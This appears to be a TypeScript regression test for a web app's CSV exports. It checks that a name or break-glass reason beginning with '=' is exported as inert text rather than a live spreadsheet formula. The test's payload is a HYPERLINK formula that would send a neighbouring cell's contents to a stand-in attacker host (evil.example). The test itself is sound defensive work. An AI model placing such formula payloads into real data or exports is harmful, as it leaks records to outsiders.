import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { MEASURES, type Cell, type Measure } from '../../src/services/governance/governanceService.ts'
import { actorNamed, signIn, startTestApp, type TestApp } from '../support/app.ts'

/**
 * Issue 10, finding 5: text people typed reached CSV exports as it was, so `=HYPERLINK(...)` in a name or a
 * break-glass reason became a live formula when the export was opened in a spreadsheet. Every export now writes
 * its cells through one helper (src/domain/export/csv.ts) that makes such cells text.
 */
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the record")'

/** Cells of a CSV line that a spreadsheet would run as a formula (after RFC 4180 unquoting of the first quote). */
const formulaCells = (csv: string) =>
  csv
    .split('\n')
    .flatMap(line => line.split(','))
    .map(cell => cell.replace(/^"/, ''))
    .filter(cell => /^[=+\-@\t\r]/.test(cell))

describe('CSV exports neutralise formula-leading cells', () => {
  let t: TestApp
  before(async () => {
    t = await startTestApp({ subjects: 40 })
  })
  after(async () => t.close())

  test('a name starting with = comes out of the governance list CSV as text', async () => {
    // Whichever count has someone in it for the head of unit (force-wide), found through the service.
    const head = await actorNamed(t.database, 'demo.head')
    let found: { measure: Measure; cell: Cell; subjectId: string } | undefined
    for (const measure of MEASURES) {
      for (const cell of ['overdue', 'due_28'] as const) {
        const list = await t.services.governance.list(head, { measure, cell })
        if (!found && list.rows[0]) found = { measure, cell, subjectId: list.rows[0].subjectId }
      }
    }
    assert.ok(found, 'the head of unit has someone to export')
    const row = found
    const subject = await t.database.db
      .selectFrom('subject')
      .select('person_id')
      .where('id', '=', row.subjectId)
      .executeTakeFirstOrThrow()
    await t.database.db.updateTable('person').set({ given_name: FORMULA }).where('id', '=', subject.person_id).execute()

    const { cookie } = await signIn(t.app, 'demo.head')
    const res = await t.app.inject({
      method: 'GET',
      url: `/governance/subjects.csv?measure=${row.measure}&cell=${row.cell}`,
      headers: { cookie },
    })
    assert.equal(res.statusCode, 200)
    assert.match(res.body, /"'=HYPERLINK\(""https:\/\/evil\.example\/\?leak=""&A2,""Open the record""\)"/)
    assert.deepEqual(formulaCells(res.body), [])
  })

  test('a break-glass reason starting with = comes out of the audit CSV as text', async () => {
    const investigator = await t.services.auth.createApiToken('demo.investigator')
    const other = await t.database.db.selectFrom('subject').select('id').orderBy('reference').executeTakeFirstOrThrow()
    const glass = await t.app.inject({
      method: 'POST',
      url: `/api/v1/subjects/${other.id}/break-glass`,
      headers: { authorization: `Bearer ${investigator}` },
      payload: { reason: FORMULA },
    })
    assert.equal(glass.statusCode, 204, glass.body)

    const { cookie } = await signIn(t.app, 'demo.auditor')
    const res = await t.app.inject({
      method: 'GET',
      url: '/audit/export.csv?operation=break-glass',
      headers: { cookie },
    })
    assert.equal(res.statusCode, 200)
    assert.match(res.body, /"'=HYPERLINK\(""https:\/\/evil\.example/)
    assert.deepEqual(formulaCells(res.body), [])
  })
})
